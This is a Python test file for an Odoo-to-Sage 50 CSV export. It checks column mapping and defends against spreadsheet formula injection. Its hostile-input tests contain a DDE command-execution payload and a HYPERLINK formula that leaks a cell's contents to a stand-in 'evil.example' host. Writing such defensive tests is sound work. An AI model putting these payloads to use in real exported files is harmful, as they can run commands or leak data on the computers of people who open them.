"""The exported Sage 50 files read back by header name, as Sage's import wizard maps them.

Each column is compared with the Odoo record it came from, for records with and without
every optional value. Values are compared as Sage reads them: a field's leading and
trailing spaces are ignored (Sage 50 import rules).
"""
import base64
import csv
import io
import re
from collections import defaultdict
from decimal import Decimal

from .common import SageCase

CUSTOMER_HEADER = ["Account Reference", "Account Name", "Street 1", "Street 2", "Town", "County", "Post Code",
                   "Contact Name", "Telephone", "E-mail", "VAT Number", "Credit Limit"]
AUDIT_HEADER = ["Type", "Account Reference", "Nominal A/C Ref", "Department Code", "Date", "Reference", "Details",
                "Net Amount", "Tax Code", "Tax Amount", "Exchange Rate", "Extra Reference", "User Name",
                "Project Refn", "Cost Code Refn"]
MONEY_COLUMNS = {"Net Amount", "Tax Amount", "Credit Limit"}
MONEY = re.compile(r"^-?[0-9]+\.[0-9]{2}$")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def file_text(result):
    return base64.b64decode(result["file"]).decode("cp1252")


def read_by_header(text):
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return reader.fieldnames, list(reader)


def as_sage_reads(row):
    return {header: value.strip() for header, value in row.items()}


def sage_text(value, limit):
    """What a text value of Odoo should become in Sage: one line, no double quotes, cut to the field."""
    text = re.sub(r"[\x00-\x1f]", " ", value or "").replace('"', "'").strip()
    return text[:limit].rstrip()


class TestExportedColumnsByHeader(SageCase):

    def setUp(self):
        super().setUp()
        Partner = self.env["res.partner"]
        self.county = self.env["res.country.state"].search([("country_id.code", "=", "GB")], limit=1)
        self.full = Partner.create({
            "name": "Calder Valley Mobility Ltd", "is_company": True, "customer": True,
            "street": "Unit 4, Dean Clough Mills", "street2": "Dean Clough", "city": "Halifax",
            "state_id": self.county.id, "zip": "HX3 5AX", "phone": "01422 123456",
            "email": "accounts@caldervalley.example", "vat": "GB980780684", "credit_limit": 2500.0,
            "company_id": self.company.id})
        # the contact name is the first active contact person, not an invoice address or an archived one
        Partner.create({"name": "Accounts payable", "parent_id": self.full.id, "type": "invoice"})
        Partner.create({"name": "Former buyer", "parent_id": self.full.id, "type": "contact", "active": False})
        self.person = Partner.create({"name": "Jane Ackroyd", "parent_id": self.full.id, "type": "contact"})
        Partner.create({"name": "Second buyer", "parent_id": self.full.id, "type": "contact"})
        self.long = Partner.create({
            "name": "The Extraordinarily Long Named Huddersfield and District Mobility Aids Cooperative",
            "is_company": True, "customer": True, "phone": "+44 (0)1484 123456 extension 9876 (switchboard)",
            "email": "x" * 300 + "@example.com", "company_id": self.company.id})

    def expected_customer(self, partner, contact=None):
        return {
            "Account Reference": self.ref_of(partner), "Account Name": sage_text(partner.name, 60),
            "Street 1": sage_text(partner.street, 60), "Street 2": sage_text(partner.street2, 60),
            "Town": sage_text(partner.city, 60), "County": sage_text(partner.state_id.name, 60),
            "Post Code": sage_text(partner.zip, 10), "Contact Name": sage_text(contact and contact.name, 30),
            "Telephone": sage_text(partner.phone, 30), "E-mail": sage_text(partner.email, 255),
            "VAT Number": sage_text(partner.vat, 20), "Credit Limit": "%.2f" % partner.credit_limit,
        }

    def test_every_customer_column_holds_the_partner_field_it_is_named_after(self):
        header, rows = read_by_header(file_text(self.export("customers")))
        self.assertEqual(header, CUSTOMER_HEADER)
        by_ref = {row["Account Reference"]: as_sage_reads(row) for row in rows}
        for partner, contact in ((self.full, self.person), (self.hudd, None), (self.wake, None), (self.long, None)):
            self.assertEqual(by_ref[self.ref_of(partner)], self.expected_customer(partner, contact), partner.name)
        self.assertEqual(by_ref[self.ref_of(self.full)]["Credit Limit"], "2500.00")
        self.assertEqual(by_ref[self.ref_of(self.full)]["Contact Name"], "Jane Ackroyd")

    def test_a_changed_contact_or_credit_limit_sends_the_customer_again(self):
        self.export("customers")
        self.person.name = "Jane Ackroyd-Firth"
        self.hudd.credit_limit = 750.0
        header, rows = read_by_header(file_text(self.export("customers")))
        by_ref = {row["Account Reference"]: as_sage_reads(row) for row in rows}
        self.assertEqual(set(by_ref), {self.ref_of(self.full), self.ref_of(self.hudd)})
        self.assertEqual(by_ref[self.ref_of(self.full)]["Contact Name"], "Jane Ackroyd-Firth")
        self.assertEqual(by_ref[self.ref_of(self.hudd)]["Credit Limit"], "750.00")

    def test_every_audit_trail_column_of_invoices_and_credit_notes_by_header(self):
        self.backend.write({"department_code": "7", "project_ref": "NHS-LEEDS"})
        second_income = self.env["account.account"].search([
            ("company_id", "=", self.company.id), ("code", "=", "400100")])
        self.assertTrue(second_income)
        self.export("customers")
        invoice = self.post_invoice(self.full, [100.0, 50.0])
        invoice_lines = invoice.invoice_line_ids
        # one more line on another income account, without tax, then re-posted with a customer reference
        invoice.journal_id.update_posted = True
        invoice.action_invoice_cancel()
        invoice.action_invoice_draft()
        invoice.write({"name": "PO 4471 / ward 9", "invoice_line_ids": [(0, 0, {
            "name": "Delivery", "quantity": 1, "price_unit": 12.5, "account_id": second_income.id})]})
        invoice.compute_taxes()
        invoice.action_invoice_open()
        credit = self.post_invoice(self.hudd, [10.0], taxes=self.vat0, kind="out_refund")
        self.assertTrue(invoice_lines and not credit.name)
        header, rows = read_by_header(file_text(self.export("invoices")))
        self.assertEqual(header, AUDIT_HEADER)
        for document in (invoice, credit):
            mine = [as_sage_reads(row) for row in rows if row["Reference"] == document.number]
            self.assertTrue(mine, document.number)
            self.assertEqual({row["Type"] for row in mine}, {"SC" if document.type == "out_refund" else "SI"})
            constant = {(row["Account Reference"], row["Department Code"], row["Date"], row["Details"],
                         row["Project Refn"], row["Exchange Rate"], row["Extra Reference"], row["User Name"],
                         row["Cost Code Refn"]) for row in mine}
            day, month, year = document.date_invoice[8:10], document.date_invoice[5:7], document.date_invoice[:4]
            self.assertEqual(constant, {(self.ref_of(document.partner_id), "7", "%s/%s/%s" % (day, month, year),
                                         document.name or document.number, "NHS-LEEDS", "", "", "", "")})
            self.assertEqual(self.net_by_nominal_and_tax_code(mine), self.odoo_net_by_nominal_and_tax_code(document))
            tax_by_code = defaultdict(Decimal)
            for row in mine:
                tax_by_code[row["Tax Code"]] += Decimal(row["Tax Amount"])
            self.assertEqual(dict(tax_by_code), self.odoo_tax_by_code(document))
        self.assertEqual(self.net_by_nominal_and_tax_code(
            [as_sage_reads(row) for row in rows if row["Reference"] == invoice.number]),
            {("4000", "T1"): Decimal("150.00"), ("400100", "T9"): Decimal("12.50")})

    def net_by_nominal_and_tax_code(self, rows):
        net = defaultdict(Decimal)
        for row in rows:
            net[(row["Nominal A/C Ref"], row["Tax Code"])] += Decimal(row["Net Amount"])
        return dict(net)

    def nominal_of(self, account):
        mapped = self.backend.nominal_map_ids.filtered(lambda line: line.account_id == account)
        return mapped.nominal_code if mapped else account.code

    def tax_code_of(self, taxes):
        return self.backend.tax_map_ids.filtered(lambda line: line.tax_id == taxes).sage_tax_code if taxes else "T9"

    def odoo_net_by_nominal_and_tax_code(self, document):
        net = defaultdict(Decimal)
        for line in document.invoice_line_ids:
            key = (self.nominal_of(line.account_id), self.tax_code_of(line.invoice_line_tax_ids))
            net[key] += Decimal("%.2f" % line.price_subtotal)
        return dict(net)

    def odoo_tax_by_code(self, document):
        taxes = defaultdict(Decimal)
        for tax_line in document.tax_line_ids:
            taxes[self.tax_code_of(tax_line.tax_id)] += Decimal("%.2f" % tax_line.amount)
        codes = {self.tax_code_of(line.invoice_line_tax_ids) for line in document.invoice_line_ids}
        return {code: taxes.get(code, Decimal("0.00")) for code in codes}


class TestExportedCellsCannotRunAsFormulas(SageCase):
    """What a hostile customer or buyer typed reaches Sage intact, and never a spreadsheet as a formula."""

    PAYLOAD = "=cmd|' /C calc'!A0"

    def setUp(self):
        super().setUp()
        self.hostile = self.env["res.partner"].create({
            "name": self.PAYLOAD, "is_company": True, "customer": True, "street": "@SUM(1+1)",
            "street2": "\t=HYPERLINK(\"http://evil.example/?\"&A1)", "city": "-2+3", "zip": "+HX1",
            "phone": "+44 1484 123456", "email": "=1+1@evil.example", "company_id": self.company.id})
        self.env["res.partner"].create({"name": "\r=2+5", "parent_id": self.hostile.id, "type": "contact"})

    def assert_safe(self, text, header):
        lines = text.split("\r\n")
        self.assertEqual(lines[-1], "", "the file ends with a record's CRLF")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        self.assertEqual(len(rows), len(lines) - 1, "a record is one line: no line break inside a field")
        self.assertEqual(rows[0], header)
        for row in rows[1:]:
            for column, cell in zip(header, row):
                if column in MONEY_COLUMNS:
                    self.assertRegex(cell, MONEY, "money is written as a plain number, sign included")
                else:
                    self.assertFalse(cell.startswith(FORMULA_STARTS), "%s: %r" % (column, cell))
                    self.assertNotIn('"', cell)
                self.assertFalse(re.search(r"[\x00-\x1f]", cell), "%s: %r" % (column, cell))
        return [dict(zip(header, row)) for row in rows[1:]]

    def test_customer_cells_are_neutralised_and_sage_reads_the_original_values(self):
        rows = self.assert_safe(file_text(self.export("customers")), CUSTOMER_HEADER)
        mine = as_sage_reads(next(row for row in rows if row["Account Reference"] == self.ref_of(self.hostile)))
        self.assertEqual(mine["Account Name"], self.PAYLOAD)
        self.assertEqual((mine["Street 1"], mine["Street 2"], mine["Town"], mine["Post Code"]),
                         ("@SUM(1+1)", "=HYPERLINK('http://evil.example/?'&A1)", "-2+3", "+HX1"))
        self.assertEqual((mine["Telephone"], mine["E-mail"], mine["Contact Name"]),
                         ("+44 1484 123456", "=1+1@evil.example", "=2+5"))

    def test_details_from_a_buyer_order_reference_and_negative_amounts(self):
        self.export("customers")
        discount = self.env["account.account"].search([("company_id", "=", self.company.id),
                                                       ("code", "=", "400100")])
        invoice = self.env["account.invoice"].create({
            "partner_id": self.hostile.id, "type": "out_invoice", "date_invoice": "2026-11-02",
            "name": self.PAYLOAD + "\r\n+second line", "invoice_line_ids": [
                (0, 0, {"name": "Hoist", "quantity": 1, "price_unit": 100.0, "account_id": self.income.id,
                        "invoice_line_tax_ids": [(6, 0, self.vat20.ids)]}),
                (0, 0, {"name": "Loyalty discount", "quantity": 1, "price_unit": -10.0,
                        "account_id": discount.id})]})
        invoice.compute_taxes()
        invoice.action_invoice_open()
        rows = self.assert_safe(file_text(self.export("invoices")), AUDIT_HEADER)
        mine = [row for row in rows if row["Reference"] == invoice.number]
        self.assertEqual({as_sage_reads(row)["Details"] for row in mine}, {self.PAYLOAD + "  +second line"})
        self.assertEqual(sorted((row["Nominal A/C Ref"], row["Net Amount"], row["Tax Amount"]) for row in mine),
                         [("4000", "100.00", "20.00"), ("400100", "-10.00", "0.00")])
